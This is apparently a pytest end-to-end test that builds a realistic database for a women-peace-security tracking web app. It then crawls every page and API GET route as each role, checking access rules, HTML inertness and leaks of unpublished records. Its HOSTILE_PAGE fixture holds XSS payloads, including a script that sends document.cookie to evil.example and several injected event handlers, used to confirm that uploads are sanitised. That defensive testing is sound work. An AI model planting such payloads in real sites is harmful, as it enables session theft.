"""The user's whole journey as one test: build a realistic database the way users do, then
crawl every page and call every GET operation of the API as each role.

Feature tests check one thing on a small fixture; this one checks that everything a user can
reach, after a realistic mix of ingest, review, publishing, indicator values and funding,
answers without a server error, refuses only where the design says so, renders well-formed
HTML and never shows an anonymous visitor an unpublished activity.

The design it checks (which paths need which role) is read from the app's own dependencies
(``current_user`` and ``require_role``), not written again here.
"""

from __future__ import annotations

import html
import json
import re
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit

import pytest
from fastapi.routing import APIRoute
from selectolax.lexbor import LexborHTMLParser as Selectolax
from sqlalchemy import Connection, select
from starlette.routing import Match, Mount

from wpstrack import activities, funding, indicators, plans, review, schema, visibility
from wpstrack.indicators import ValueIn
from wpstrack.ingest import iter_files
from wpstrack.web.deps import current_user

if TYPE_CHECKING:
    from conftest import WebSite

pytestmark = pytest.mark.slow

ROLES: list[str | None] = [None, "viewer", "reviewer", "editor", "admin"]  # None: anonymous
DATA = Path(__file__).parent / "data"
# Pages of one route shape (path pattern + query names) visited per role: enough to meet every
# kind of record (drafts, published, rejected, money, Japanese, PDF...) without visiting all.
PER_PATTERN = 12
# Facet links combine filters freely, so one list page has dozens of query shapes: past this
# many visits of one path, a shape already seen is not visited again (a new one still is).
PER_PATH = 40
# Shapes that cost more: each report download renders a whole report (PDF through WeasyPrint);
# four are the four formats of one plan.
PATTERN_CAPS = {"/reports/download?currency&format&period&plan": 4}
# Known failures another helper fixes (kept failing here on purpose until their work merges):
# review/activity pages of a draft with a money amount, and /people's Next page (catalogue),
# and the activity list's ?q= showing anonymous visitors unpublished titles (vis).
KNOWN_FAILURES = (
    "review/activity pages with money and /people's next page (catalogue); "
    "anonymous /activities?q= shows unpublished titles (vis)"
)


# --- the database, built the way users build it ------------------------------------------------

MONEY_RELEASE = (
    "Press Release\n"
    "February 6, 2024\n"
    "Emergency Grant Aid for women affected by the conflict\n"
    "On February 6, 2024, the Government of Japan decided to extend Emergency Grant Aid of "
    "US$3 million through UN Women and UNFPA to protect women and girls displaced by the "
    "conflict, in line with resolution 1325. Japan will contribute 500 million yen to the "
    "Peacebuilding Fund. Ambassador Tanaka stated that Japan will continue its support.\n"
)
JAPANESE_RELEASE = (
    "報道発表\n"
    "令和6年3月8日\n"
    "国際女性デーに際する女性・平和・安全保障に関する会合の開催\n"
    "3月8日、東京において、外務省は国連女性機関（UN Women）と共に、女性・平和・安全保障"
    "（WPS）に関する会合を開催しました。安保理決議第1325号の履行について意見交換を行いました。\n"
)
PDF_LINES = [
    "Press Release",
    "May 14, 2024",
    "State Minister held a meeting with the Executive Director of UNFPA",
    "On May 14, commencing at 3:00 p.m. for approximately 30 minutes, the State Minister",
    "for Foreign Affairs held a meeting in Tokyo with the Executive Director of UNFPA",
    "on women, peace and security and the protection of women in humanitarian crises.",
]
DOCX_PARAGRAPHS = [
    "Press Release",
    "June 3, 2024",
    "Japan co-hosted a side event on women's participation in peace processes",
    "On June 3, in Geneva, Japan and UN Women co-hosted a side event on the meaningful "
    "participation of women in peace processes under resolution 2493.",
]
HOSTILE_PAGE = """<!doctype html><html><head><title>Hostile release</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><h1>Minister met UN Women <script>alert(1)</script>in Geneva</h1>
<iframe src="https://evil.example/frame"></iframe>
<p>On 3 May 2024 the <img src=x onerror="alert(2)"> delegation met UN Women in Geneva
<a href="javascript:alert(3)" onclick="alert(4)">to discuss</a> resolution 1325.</p>
<svg onload="alert(5)"><foreignObject><iframe srcdoc="<script>alert(6)</script>"></iframe>
</foreignObject></svg></body></html>
"""


def _generated_releases(folder: Path) -> list[Path]:
    """Releases of every kind a user uploads, written into ``folder``."""
    from docx import Document
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    folder.mkdir(parents=True, exist_ok=True)
    (folder / "money.txt").write_text(MONEY_RELEASE, encoding="utf-8")
    (folder / "japanese.txt").write_text(JAPANESE_RELEASE, encoding="utf-8")
    (folder / "hostile.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    pdf = canvas.Canvas(str(folder / "release.pdf"), pagesize=A4)
    for number, line in enumerate(PDF_LINES):
        pdf.drawString(50, 800 - 16 * number, line)
    pdf.save()
    docx = Document()
    for paragraph in DOCX_PARAGRAPHS:
        docx.add_paragraph(paragraph)
    docx.save(str(folder / "release.docx"))
    return sorted(folder.iterdir())


def _review(conn: Connection, actor: str) -> dict[str, list[int]]:
    """Review part of the queue through the functions the review pages call."""
    done: dict[str, list[int]] = {"published": [], "reviewed": [], "rejected": []}
    queue = review.review_queue(conn, limit=500).items
    money = {i.id for i in queue if (i.title or "").startswith("Emergency Grant Aid")}
    measure = next(m.id for m in activities.plan_measures(conn) if m.kind != "area")
    for number, item in enumerate(i for i in queue if i.id not in money):
        if number % 3 == 2:
            continue  # a third stays in the queue as drafts
        if number % 9 == 1:
            review.reject_record(conn, actor, item.id, expected_version=item.version)
            done["rejected"].append(item.id)
            continue
        values = activities.provenance(conn, item.id)
        city = next((v for v in values if v.field == "city" and v.source == "machine"), None)
        if city is not None:
            review.decide(conn, actor, city.id, "correct", "Geneva", document_id=item.id)
        other = next((v for v in values if v.source == "machine" and v.field != "city"), None)
        if other is not None and number % 2:
            review.decide(conn, actor, other.id, "reject", document_id=item.id)
        stored = review.accept_record(conn, actor, item.id, expected_version=item.version)
        linked = activities.link_plan_item(
            conn, actor, stored["id"], measure, expected_version=stored["version"]
        )
        if number % 4 == 3:
            done["reviewed"].append(item.id)  # reviewed but never published
            continue
        activities.set_published(conn, actor, stored["id"], True, expected_version=linked.version)
        done["published"].append(item.id)
    return done


def _record_monitoring(conn: Connection) -> None:
    """Indicator values, computed indicators and the funding register."""
    plans.save_plan(conn, plans.parse_plan((DATA / "plan_sample.yaml").read_bytes(), "s", "yaml"))
    for period, value in (("2021", 14), ("2022", 19)):
        indicators.record_value(conn, "TEST-NAP", "I1", ValueIn(period, value, source="journey"))
        indicators.record_value(conn, "TEST-NAP", "I1", ValueIn(period, value // 2, sex="f"))
    indicators.refresh(conn)
    sample = DATA / "contributions_sample.csv"
    funding.import_contributions(conn, sample.read_bytes(), sample.name, allow_unresolved=True)


@dataclass
class Journey:
    site: WebSite
    documents: int
    unpublished_titles: set[str]
    # The pages of the releases made here (money, Japanese, PDF, DOCX, hostile), each with
    # whether anonymous visitors may see it (its activity is published).
    made: list[tuple[str, bool]]


@pytest.fixture(scope="module")
def journey(web: WebSite, corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Journey:
    from wpstrack.ingest import ingest_batch

    files = [p for p in iter_files([corpus_dir]) if p.suffix != ".jsonl"]
    made = _generated_releases(tmp_path_factory.mktemp("releases"))
    with web.engine.begin() as conn:
        outcomes = ingest_batch(
            conn, files + made, publisher="Ministry of Foreign Affairs of Japan"
        )
        # The corpus holds some unreadable files on purpose (their rejection is part of the
        # journey); every release made here is a real one and must be stored.
        names = {str(p) for p in made}
        refused = {o.path: o.reason for o in outcomes if o.status != "ingested"}
        assert not refused.keys() & names, refused
        decided = _review(conn, "editor")
        assert all(decided.values()), decided  # published, reviewed and rejected ones exist
        _record_monitoring(conn)
        titles = _unpublished_titles(conn)
        made_pages = _pages_of(conn, [o.document_id for o in outcomes if o.path in names])
    return Journey(web, len(outcomes), titles, made_pages)


def _pages_of(conn: Connection, document_ids: list[int | None]) -> list[tuple[str, bool]]:
    """The document, review and activity pages of ``document_ids``; public or not."""
    act = schema.activity
    query = select(act.c.document_id, act.c.id, visibility.activities(True))
    rows = conn.execute(query.where(act.c.document_id.in_(document_ids))).all()
    activity_of = {document_id: (id_, bool(public)) for document_id, id_, public in rows}
    pages = []
    for document_id in document_ids:
        activity_id, public = activity_of.get(document_id, (None, False))
        pages += [(f"/documents/{document_id}", public), (f"/review/{document_id}", False)]
        if activity_id is not None:
            pages.append((f"/activities/{activity_id}", public))
    return pages


def _unpublished_titles(conn: Connection) -> set[str]:
    """Titles of unpublished activities that no published activity shares."""
    act = schema.activity
    rows = conn.execute(select(act.c.title, visibility.activities(True))).all()
    public = {t for t, shown in rows if shown}
    return {t for t, shown in rows if t and not shown and t not in public}


# --- the design: which role each route needs, read from the app's dependencies --------------


@dataclass(frozen=True)
class Door:
    """Who passes a route: ``login`` needs any user, ``roles`` needs one of them (or admin)."""

    login: bool
    roles: tuple[str, ...] = ()

    def refuses(self, role: str | None) -> bool:
        if role is None:
            return self.login or bool(self.roles)
        return bool(self.roles) and role != "admin" and role not in self.roles


def _door(dependant: Any) -> Door:
    login, roles = False, ()
    stack = [dependant]
    while stack:
        dep = stack.pop()
        call = dep.call
        if call is current_user:
            login = True
        if getattr(call, "__qualname__", "").startswith("require_role."):
            names = call.__code__.co_freevars
            roles = call.__closure__[names.index("roles")].cell_contents
        stack.extend(dep.dependencies)
    return Door(login or bool(roles), tuple(roles))


def _routes(routes: list[Any], prefix: str = "") -> Iterator[tuple[str, APIRoute]]:
    for route in routes:
        if isinstance(route, Mount):
            yield from _routes(route.routes, prefix + route.path)
        elif isinstance(route, APIRoute):
            yield prefix, route
        elif hasattr(route, "original_router"):  # FastAPI's record of an included router
            included = prefix + getattr(route.include_context, "prefix", "")
            yield from _routes(route.original_router.routes, included)


def door_of(app: Any, path: str) -> tuple[Door, str]:
    """The door of the GET route serving ``path`` and that route's path pattern."""
    for prefix, route in _routes(app.routes):
        if not path.startswith(prefix):
            continue
        scope = {"type": "http", "path": path[len(prefix) :] or "/", "method": "GET"}
        match, _child = route.matches(scope)
        if match == Match.FULL:
            return _door(route.dependant), prefix + route.path
    return Door(False), path  # static files and unknown paths: open (a 404 is then a fault)


def test_the_design_read_from_the_app_is_the_intended_one(web: WebSite) -> None:
    """The derived doors agree with what the role tests state, so the crawl checks the design."""
    app = web.app
    assert door_of(app, "/plans")[0] == Door(False)
    assert door_of(app, "/review")[0] == Door(True)
    assert door_of(app, "/admin/users")[0] == Door(True, ("admin",))
    assert door_of(app, "/api/v1/users")[0] == Door(True, ("admin",))
    assert door_of(app, "/api/v1/me")[0] == Door(True)
    assert door_of(app, "/activities/1") == (Door(False), "/activities/{activity_id}")


# --- well-formed HTML --------------------------------------------------------------------------

VOID = {
    *("area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source"),
    *("track", "wbr"),
}
# Elements whose end tag HTML lets an author leave out.
OPTIONAL_END = {
    *("p", "li", "dt", "dd", "option", "optgroup", "tr", "td", "th", "thead", "tbody"),
    *("tfoot", "colgroup", "rt", "rp"),
}


class TagBalance(HTMLParser):
    """Finds what a browser would silently repair: end tags that close nothing, elements
    left open, and a page with other than one ``<main>``."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.problems: list[str] = []
        self.mains = 0

    def _foreign(self) -> bool:
        """Inside SVG or MathML, where ``<line/>`` is a whole element."""
        return "svg" in self.stack or "math" in self.stack

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "main":
            self.mains += 1
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in VOID and not self._foreign():
            self.problems.append(f"<{tag}/> is not a void element")

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if tag not in self.stack:
            self.problems.append(f"</{tag}> closes nothing (line {self.getpos()[0]})")
            return
        while (top := self.stack.pop()) != tag:
            if top not in OPTIONAL_END:
                self.problems.append(f"<{top}> is closed by </{tag}> (line {self.getpos()[0]})")

    def check(self, text: str) -> list[str]:
        self.feed(text)
        self.close()
        left = [t for t in self.stack if t not in OPTIONAL_END]
        if left:
            self.problems.append(f"left open: {left}")
        if self.mains != 1:
            self.problems.append(f"{self.mains} <main> elements")
        return self.problems


def html_problems(text: str, page: bool = True) -> list[str]:
    """Ways the page is not well-formed or not inert (empty when it is); a downloaded HTML
    file (``page=False``) is a document of its own, without the site's ``<main>``."""
    tree = Selectolax(text)
    problems = [p for p in TagBalance().check(text) if page or "<main> elements" not in p]
    if tree.css_first("html > body") is None:
        problems.append("no body")
    # Only our own script runs; nothing from a document becomes a frame or a handler.
    for script in tree.css("script"):
        if not (script.attributes.get("src") or "").startswith("/static/"):
            problems.append(f"an inline or foreign script: {script.html[:80]!r}")
    for node in tree.css("iframe, object, embed, frame"):
        problems.append(f"a live <{node.tag}>")
    for node in tree.css("*"):
        handlers = [a for a in node.attributes if a.lower().startswith("on")]
        if handlers:
            problems.append(f"<{node.tag}> has event handlers {handlers}")
    return problems


GOOD_PAGE = '<!doctype html><html><head><script src="/static/x.js"></script></head><body>'
GOOD_PAGE += '<main><p>one<p>two<svg><line x1="0"/></svg><img src="a.png"></main></body></html>'


@pytest.mark.parametrize(
    ("page", "problem"),
    [
        (GOOD_PAGE, None),
        (GOOD_PAGE.replace("</main>", ""), "<main> is closed by </body>"),
        (GOOD_PAGE.replace("</main></body></html>", ""), "left open: ['html', 'body', 'main']"),
        (GOOD_PAGE.replace("<main>", "<main><div>"), "<div> is closed by </main>"),
        (GOOD_PAGE.replace("<main>", "<main></section>"), "</section> closes nothing"),
        (GOOD_PAGE.replace("<main>", "").replace("</main>", ""), "0 <main> elements"),
        (GOOD_PAGE.replace("<p>one", "<p>one<div/>"), "<div/> is not a void element"),
        (GOOD_PAGE.replace("<p>one", "<script>alert(1)</script>"), "an inline or foreign"),
        (GOOD_PAGE.replace("<p>one", "<iframe src=x></iframe>"), "a live <iframe>"),
        (GOOD_PAGE.replace('src="a.png"', 'src="a.png" onerror="x()"'), "event handlers"),
    ],
)
def test_the_page_checker_finds_what_a_browser_would_repair(page: str, problem: str | None) -> None:
    found = html_problems(page)
    if problem is None:
        assert found == []
    else:
        assert any(problem in p for p in found), found


# --- the crawl ---------------------------------------------------------------------------------


@dataclass
class Visit:
    """What one role's crawl saw, and what was wrong with it."""

    role: str | None
    pages: Counter[str] = field(default_factory=Counter)
    operations: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)
    seconds: Counter[str] = field(default_factory=Counter)  # time spent per page shape
    paths: Counter[str] = field(default_factory=Counter)  # visits per path pattern

    def slowest(self) -> str:
        return ", ".join(f"{shape} {t:.1f}s" for shape, t in self.seconds.most_common(3))

    def fault(self, url: str, what: str) -> None:
        self.faults.append(f"[{self.role or 'anonymous'}] {url}: {what}")


def _shape(pattern: str, url: str) -> str:
    names = sorted({k for k, _ in parse_qsl(urlsplit(url).query, keep_blank_values=True)})
    return pattern + ("?" + "&".join(names) if names else "")


def _internal(base: str, href: str) -> str | None:
    """The internal address ``href`` leads to, or None for other sites and non-pages."""
    target = urljoin(base, href.strip())
    parts = urlsplit(target)
    if parts.scheme not in ("http", "https") or parts.netloc != "testserver":
        return None
    if parts.path in ("/logout",) or parts.path.startswith("/static/"):
        return None
    return parts.path + (f"?{parts.query}" if parts.query else "")


def _option_value(option: Any) -> str:
    if "value" in option.attributes:
        return str(option.attributes["value"] or "")
    return str(option.text())


def _form_fields(form: Any) -> tuple[list[tuple[str, str]], dict[int, list[str]], set[int]]:
    """The values a GET form submits as shown, and the other choices of each select and
    radio group."""
    fields: list[tuple[str, str]] = []
    choices: dict[int, list[str]] = {}
    radios: set[int] = set()
    for node in form.css("input[name], select[name], textarea[name]"):
        name = node.attributes.get("name") or ""
        kind = (node.attributes.get("type") or "").lower()
        if node.tag == "select":
            options = [_option_value(o) for o in node.css("option")]
            chosen = node.css_first("option[selected]")
            value = _option_value(chosen) if chosen else (options[0] if options else "")
            choices[len(fields)] = [o for o in options if o != value]
        elif kind == "radio" and "checked" in node.attributes:
            value = node.attributes.get("value") or "on"
            group = form.css(f'input[type="radio"][name="{name}"]')
            others = [r.attributes.get("value") or "on" for r in group]
            choices[len(fields)] = [o for o in others if o != value]
            radios.add(len(fields))
        elif kind in ("checkbox", "radio") and "checked" not in node.attributes:
            continue
        elif node.tag == "textarea":
            value = node.text()
        else:
            value = node.attributes.get("value") or ""
        fields.append((name, value))
    return fields, choices, radios


def _form_urls(base: str, tree: Selectolax) -> Iterator[str]:
    """The addresses each GET form (filters, search, report) submits: as shown, then with one
    choice changed at a time, radio groups first (a few kinds, such as a report's formats,
    before a select's long list of values, so that a per-pattern cap meets every kind)."""
    for form in tree.css("form"):
        if (form.attributes.get("method") or "get").lower() != "get":
            continue
        fields, choices, radios = _form_fields(form)
        variants = [fields]
        for index, others in sorted(choices.items(), key=lambda c: c[0] not in radios):
            for other in others:
                changed = list(fields)
                changed[index] = (fields[index][0], other)
                variants.append(changed)
        action = (form.attributes.get("action") or base).split("?")[0]
        for variant in variants:
            target = _internal(base, action + "?" + urlencode(variant))
            if target:
                yield target


def _links(base: str, text: str) -> Iterator[str]:
    tree = Selectolax(text)
    for anchor in tree.css("a[href]"):
        target = _internal(base, anchor.attributes.get("href") or "")
        if target:
            yield target
    yield from _form_urls(base, tree)


def _check_secrets(visit: Visit, url: str, body: str, titles: set[str]) -> None:
    if visit.role is not None:
        return
    for title in titles:
        if title in body or html.escape(title) in body or json.dumps(title)[1:-1] in body:
            visit.fault(url, f"shows the unpublished activity {title!r}")


def _said(response: Any) -> str:
    """What an error response says, in one short line."""
    text = response.text
    if response.headers.get("content-type", "").startswith("text/html"):
        main = Selectolax(text).css_first("main")
        text = main.text() if main is not None else text
    return " ".join(text.split())[:200]


def _check_response(
    visit: Visit, app: Any, url: str, response: Any, titles: set[str]
) -> str | None:
    """Record the faults of ``response``; the body when it is a page to read links from."""
    path = urlsplit(url).path
    door, _pattern = door_of(app, path)
    status = response.status_code
    api = path.startswith("/api/")
    refused = door.refuses(visit.role)
    if status >= 500:
        visit.fault(url, f"{status} {_said(response)}")
        return None
    if status in (401, 403) or (status == 303 and "/login" in response.headers["location"]):
        if not refused:
            visit.fault(url, f"{status}: refused although the design lets this role in")
        return None
    if refused:
        visit.fault(url, f"{status}: served although the design refuses this role")
    if 300 <= status < 400:
        return None
    if status >= 400:
        visit.fault(url, f"{status} on a link the site shows: {_said(response)}")
        return None
    body = response.text
    _check_secrets(visit, url, body, titles)
    kind = response.headers.get("content-type", "")
    if kind.startswith("text/html"):
        attachment = "attachment" in response.headers.get("content-disposition", "")
        for problem in html_problems(body, page=not attachment):
            visit.fault(url, problem)
        return body
    if kind.startswith("application/json") and not api:
        json.loads(body)
    return None


def _get(visit: Visit, client: Any, url: str, headers: dict[str, str] | None = None) -> Any:
    """The response, or None after recording the server error the app raised."""
    try:
        return client.get(url, headers=headers)
    except Exception as exc:  # the in-process client re-raises what became a 500
        visit.fault(url, f"500 {type(exc).__name__}: {str(exc)[:300]}")
        return None


def crawl_pages(journey: Journey, role: str | None, language: str | None = None) -> Visit:
    """Breadth-first over every internal link from the navigation of ``role``'s home page
    (asking for pages in ``language`` when given, whose pages are then checked for it)."""
    site, app = journey.site, journey.site.app
    client = site.login(role) if role else site.client()
    if language:
        client.headers["Accept-Language"] = language
    visit = Visit(role)
    home = client.get("/")
    nav = Selectolax(home.text).css("nav#site-nav a[href]")
    seeds = [_internal("http://testserver/", a.attributes.get("href") or "") for a in nav]
    assert seeds, "the navigation of the home page has no links"
    # Pages no menu names (an orphan is still an address users bookmark) start a walk too, and
    # so do the pages of the unusual releases, which the per-pattern cap might otherwise skip.
    made = [page for page, public in journey.made if role is not None or public]
    seeds += [p for p in [*made, *_plain_page_paths(app)] if p not in seeds]
    queue = deque(s for s in seeds if s)
    seen = set(queue)
    while queue:
        url = queue.popleft()
        _door, pattern = door_of(app, urlsplit(url).path)
        shape = _shape(pattern, url)
        if visit.pages[shape] >= PATTERN_CAPS.get(shape, PER_PATTERN):
            continue
        if visit.pages[shape] and visit.paths[pattern] >= PER_PATH:
            continue
        visit.pages[shape] += 1
        visit.paths[pattern] += 1
        started = time.perf_counter()
        response = _get(visit, client, url)
        visit.seconds[shape] += time.perf_counter() - started
        if response is None:
            continue
        if 300 <= response.status_code < 400 and "/login" not in response.headers["location"]:
            target = _internal("http://testserver" + url, response.headers["location"])
            if target and target not in seen:
                seen.add(target)
                queue.append(target)
        body = _check_response(visit, app, url, response, journey.unpublished_titles)
        if body and language:
            download = "attachment" in response.headers.get("content-disposition", "")
            _check_language(visit, url, body, language, attachment=download)
        for target in _links("http://testserver" + url, body or ""):
            if target not in seen:
                seen.add(target)
                queue.append(target)
    if role is None:
        _search_for_secrets(journey, client, visit, seen)
    return visit


# What a page's interface (not its records) is made of: a word of English in one of these on a
# Japanese page is a message nobody translated.
INTERFACE = "nav#site-nav a, label, button, th[scope=col], caption, legend, dt, summary, h2"
# Written the same way in both languages: names, formats, notations.
SAME_IN_BOTH = {"wpstrack", "OpenAPI", "English", "Word", *(r for r in ROLES if r)}  # + usernames
UNTRANSLATED = "⟦untranslated⟧"
RECORD_LINKS = "a[href^='/organisations/'], a[href^='/people/'], a[href^='/activities/']"


def _check_language(
    visit: Visit, url: str, body: str, language: str, attachment: bool = False
) -> None:
    """Fault a page not in ``language``: its ``<html lang>``, a message id without a translation
    (marked by the test), or English words in the interface of a Japanese page."""
    for match in re.finditer(re.escape(UNTRANSLATED) + r"([^⟦]*)⟦", body):
        visit.fault(url, f"message without a translation: {match.group(1)[:80]!r}")
    if attachment:
        return  # a downloaded report is a document of its own, in its own language
    tree = Selectolax(body)
    html = tree.css_first("html")
    if html is None or html.attributes.get("lang") != language:
        visit.fault(url, f"<html lang> is not {language!r}")
    if language != "ja":
        return
    for node in tree.css(INTERFACE):
        if node.css_first(RECORD_LINKS):
            continue  # a record's name inside the element
        # Identifiers shown as code (API paths and tags, file names) are not words to translate.
        text = Selectolax(re.sub(r"<(code|kbd)\b.*?</\1>", " ", node.html or "", flags=re.S)).text()
        words = re.findall(r"[A-Za-z][A-Za-z'-]{2,}", text)
        # Capitals are codes and acronyms (JP-NAP3, UNDP, USD), the same in both languages.
        english = [w for w in words if w not in SAME_IN_BOTH and not w.isupper()]
        if english:
            shown = node.text()[:80]
            visit.fault(url, f"English in the Japanese interface: <{node.tag}> {shown!r}")


def _required_query(dependant: Any) -> bool:
    """Whether the route (or one of its dependencies) needs a query parameter."""
    stack = [dependant]
    while stack:
        dep = stack.pop()
        if any(p.field_info.is_required() for p in dep.query_params):
            return True
        stack.extend(dep.dependencies)
    return False


def _plain_page_paths(app: Any) -> list[str]:
    """Every GET page that needs no parameter (the API is called separately)."""
    return [
        route.path
        for prefix, route in _routes(app.routes)
        if "GET" in route.methods
        and not prefix
        and "{" not in route.path
        and route.path != "/logout"
        and not _required_query(route.dependant)
    ]


SEARCHES = 6  # unpublished titles typed into each search box


def _searches(journey: Journey) -> list[str]:
    """Words of unpublished titles to search for: each title but its last word, so that the
    page echoing the query back is not taken for the whole title leaking."""
    words = [t.split() for t in sorted(journey.unpublished_titles)]
    return [" ".join(w[:-1]) for w in words if len(w) > 2][:SEARCHES]


def _search_for_secrets(journey: Journey, client: Any, visit: Visit, seen: set[str]) -> None:
    """Type unpublished titles into every search box an anonymous visitor was shown."""
    boxes = {urlsplit(u).path for u in seen if "q" in dict(parse_qsl(urlsplit(u).query, True))}
    for path in sorted(boxes):
        for words in _searches(journey):
            url = f"{path}?{urlencode({'q': words})}"
            visit.pages[path + "?q (unpublished titles)"] += 1
            response = _get(visit, client, url)
            if response is not None:
                _check_response(visit, journey.site.app, url, response, journey.unpublished_titles)


# --- every GET operation of the API ------------------------------------------------------------


def _json(response: Any) -> Any:
    """The JSON body of a successful response, else an empty object."""
    if response is None or not response.is_success:
        return {}
    if not response.headers.get("content-type", "").startswith("application/json"):
        return {}
    return response.json()


def _items(payload: Any) -> list[Any]:
    if isinstance(payload, dict):
        for key in ("items", "plans"):
            if isinstance(payload.get(key), list):
                return list(payload[key])
        return []
    return payload if isinstance(payload, list) else []


def _key(item: Any, name: str) -> Any:
    if not isinstance(item, dict):
        return None
    for key in (name, "id" if name.endswith("_id") else "code", "username", "code", "id"):
        if item.get(key) is not None:
            return item[key]
    return None


def _fill(template: str, params: list[dict[str, Any]], get: Callable[[str], Any]) -> Iterator[str]:
    """Addresses for ``template`` with its path parameters filled from the role's listings."""
    names = re.findall(r"{(\w+)}", template)
    if not names:
        yield template
        return
    first = names[0]
    head = template.split("{" + first + "}")[0].rstrip("/")
    schemas = {p["name"]: p.get("schema", {}) for p in params if p["in"] == "path"}
    choices = schemas.get(first, {}).get("enum")
    if choices is None:
        listing = get(head)
        choices = [_key(i, first) for i in _items(_json(listing))]
    found = [c for c in choices if c is not None]
    for value in found if "enum" in schemas.get(first, {}) else found[:3]:
        filled = template.replace("{" + first + "}", str(value), 1)
        yield from _fill(filled, params, get)


def _documented_refusal(path: str, name: str, value: str) -> bool:
    """Combinations the API documents as refused (not valid parameters to call with)."""
    sdmx = name == "format" and value in ("sdmx-csv", "sdmx-structure")
    return sdmx and path.startswith("/exports/") and path != "/exports/indicator_values"


def call_api(journey: Journey, role: str | None) -> Visit:
    """Every GET operation of the OpenAPI document, as ``role``, with real ids."""
    site, app = journey.site, journey.site.app
    client = site.client()
    headers = site.bearer(role)
    visit = Visit(role)
    spec = client.get("/api/v1/openapi.json").json()

    def get(path: str, query: dict[str, Any] | None = None) -> Any:
        url = "/api/v1" + path + (f"?{urlencode(query)}" if query else "")
        visit.operations[path] += 1
        response = _get(visit, client, url, headers)
        if response is not None:
            _check_response(visit, app, url, response, journey.unpublished_titles)
        return response

    for template, operations in spec["paths"].items():
        if "get" not in operations:
            continue
        params = operations["get"].get("parameters", [])
        enums = {
            p["name"]: p["schema"]["enum"]
            for p in params
            if p["in"] == "query" and "enum" in p.get("schema", {})
        }
        for path in _fill(template, params, get):
            response = get(path)
            cursor = _json(response).get("next_cursor")
            if isinstance(cursor, str):
                get(path, {"cursor": cursor})
            if role is None and any(p["name"] == "q" for p in params):
                for words in _searches(journey):
                    get(path, {"q": words})
            for name, values in enums.items():
                for value in values:
                    if not _documented_refusal(path, name, value):
                        get(path, {name: value})
    return visit


# --- the journey ---------------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES, ids=lambda r: r or "anonymous")
def test_every_page_and_operation_answers_as_designed(
    journey: Journey, role: str | None, capsys: pytest.CaptureFixture[str]
) -> None:
    pages = crawl_pages(journey, role)
    api = call_api(journey, role)
    with capsys.disabled():
        print(
            f"\njourney [{role or 'anonymous'}] {journey.documents} documents: "
            f"{sum(pages.pages.values())} pages ({len(pages.pages)} kinds), "
            f"{sum(api.operations.values())} API calls ({len(api.operations)} operations); "
            f"{len(pages.faults) + len(api.faults)} faults; slowest pages: {pages.slowest()}"
        )
    faults = pages.faults + api.faults
    assert faults == [], f"{len(faults)} faults (known: {KNOWN_FAILURES}):\n" + "\n".join(faults)


@pytest.mark.parametrize("role", [None, "admin"], ids=lambda r: r or "anonymous")
def test_every_page_in_japanese_is_japanese(
    journey: Journey, role: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Walk every page a visitor and an administrator reach with their browser set to Japanese;
    a message id the catalogue does not translate shows marked, and is a fault."""
    from wpstrack import i18n

    monkeypatch.setattr(i18n, "untranslated", lambda m: f"{UNTRANSLATED}{m}⟦")
    pages = crawl_pages(journey, role, language="ja")
    assert sum(pages.pages.values()) > 50, pages.pages
    faults = sorted(set(pages.faults))
    assert faults == [], f"{len(faults)} faults:\n" + "\n".join(faults[:80])
